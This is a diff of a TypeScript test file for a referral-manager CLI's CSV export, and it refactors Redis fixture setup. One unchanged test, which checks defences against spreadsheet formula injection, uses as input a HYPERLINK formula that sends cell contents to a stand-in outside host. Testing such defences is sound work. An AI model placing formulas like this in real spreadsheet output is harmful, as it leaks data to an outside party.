@@ -5,7 +5,7 @@ import type { Token } from '../src/store/model.js';
 import { createRedis } from '../src/store/redis.js';
 import { MAIN, runCli } from './helpers/cli.js';
 import { hasRedisServer, startCluster, type RedisClusterHandle } from '../bench/redis-server.js';
-import { engineFixture, SHARED_REDIS_URL, type EngineFixture } from './helpers/redis.js';
+import { engineFixture, engineFixtureFor, SHARED_REDIS_URL, type EngineFixture } from './helpers/redis.js';
 import { each } from './helpers/snapshot.js';
 
 const TOTAL = 100_000;
@@ -246,13 +246,7 @@ if (!clusterAvailable) console.warn(`test/cli-export.test.ts: skipping export on
 
 // user and campaign ids come from satellites; a marketer opens the CSV in a spreadsheet
 describe('referral-manager export --format csv: values a spreadsheet would run as formulas', () => {
-  let fx: EngineFixture;
-  beforeAll(async () => {
-    fx = await engineFixture({ label: 'cliexportcsv' });
-  });
-  afterAll(async () => {
-    await fx?.close();
-  });
+  const fx = engineFixtureFor('cliexportcsv');
 
   it("puts a ' before a value starting with = + - @, and --raw writes it as stored", async () => {
     const users = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+1', '-2+3', '@SUM(A1)', 'plain=ok'];
@@ -279,13 +273,7 @@ describe('referral-manager export --format csv: values a spreadsheet would run a
 
 // a generate during an export adds names (satellite, campaign numbers) to dictionaries the export has read
 describe('export meeting tokens made after it read a shard\'s dictionary', () => {
-  let fx: EngineFixture;
-  beforeAll(async () => {
-    fx = await engineFixture({ label: 'cliexportlate' });
-  });
-  afterAll(async () => {
-    await fx?.close();
-  });
+  const fx = engineFixtureFor('cliexportlate');
 
   it('reads the dictionary again and names their campaign', async () => {
     const owners = Array.from({ length: 5_000 }, (_, i) => ({ ownerSatelliteId: 'sat-e', ownerUserId: `e-${i}` }));
